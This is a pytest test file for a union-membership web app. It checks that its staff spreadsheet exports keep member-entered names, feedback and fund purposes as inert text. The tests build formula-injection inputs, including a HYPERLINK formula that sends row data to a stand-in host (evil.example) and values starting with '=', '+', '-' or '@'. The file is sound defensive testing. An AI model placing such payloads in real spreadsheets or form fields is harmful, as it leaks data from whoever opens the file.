"""Every .xlsx a staff member downloads keeps what members and staff typed as text: a name or a
comment written as a formula (=HYPERLINK(...) that leaks other rows when clicked) stays inert."""

from __future__ import annotations

import io
from decimal import Decimal

from openpyxl import Workbook

from unionhome.activities import services as activities
from unionhome.activities.models import Signup
from unionhome.benefits import funds
from unionhome.benefits.models import FundEntry
from unionhome.core.models import Role
from unionhome.members import roster

from ..activities.conftest import soon
from ..factories import UserFactory, grant
from ..xlsx_files import read_back

LINK = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'


def texts(content: bytes) -> list:
    cells = read_back(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula reached the sheet"
    return [c.value for c in cells]


def test_attendance_sheet_keeps_feedback_and_names_as_text(personas, as_user):
    activity = activities.activity_save(
        actor=personas.staff,
        org=personas.tree.union,
        title="趣味运动会",
        starts_at=soon(48),
        ends_at=soon(50),
        place="活动中心",
        capacity=5,
    )
    row = activities.signup_create(user=personas.member_user, activity=activity)
    Signup.objects.filter(pk=row.pk).update(feedback=LINK, rating=5)
    personas.member.name = "@SUM(A1:A9)"
    personas.member.save()
    content = as_user(personas.staff).get(f"/staff/activities/{activity.pk}/attendance.xlsx").content
    values = texts(content)
    assert "'" + LINK in values and "'@SUM(A1:A9)" in values and 5 in values


def test_roster_export_keeps_names_as_text(personas, as_user):
    personas.member.name = "-2+3"
    personas.member.save()
    values = texts(as_user(personas.staff).get("/staff/roster/export.xlsx").content)
    assert "'-2+3" in values and "李秀英" in values


def test_import_error_report_keeps_names_as_text(personas, as_user, django_capture_on_commit_callbacks):
    book = Workbook()
    book.active.append(["姓名", "工号", "手机号", "工作地点"])
    book.active.append([LINK, "+E1", "1", "翠湖小区"])
    for cell in book.active[2][:2]:
        cell.data_type = "s"  # text as a member's own sheet holds it, not a formula openpyxl made
    out = io.BytesIO()
    book.save(out)
    with django_capture_on_commit_callbacks(execute=True):
        job = roster.roster_import_start(
            org=personas.tree.union, filename="r.xlsx", data=out.getvalue(), actor=personas.staff
        )
    values = texts(as_user(personas.staff).get(f"/staff/roster/imports/{job.pk}/errors.xlsx").content)
    assert "'" + LINK in values and "'+E1" in values and 2 in values


def test_ledger_keeps_purpose_and_names_as_text_and_amounts_as_numbers(personas, as_user):
    chair = grant(UserFactory(username="chair"), personas.tree.union, Role.CHAIR)
    fund = funds.fund_save(
        actor=chair, org=personas.tree.union, name="=1+1", year=2026, budget=Decimal("100"), signer=chair
    )
    FundEntry.objects.create(
        fund=fund, amount=Decimal("300"), purpose=LINK, member=personas.member, approved_by=chair
    )
    values = texts(as_user(personas.staff).get(f"/staff/funds/{fund.pk}/ledger.xlsx").content)
    assert "'" + LINK in values and "'=1+1" in values
    assert 300 in values and -200 in values  # the running balance, overspent on purpose, stays a number
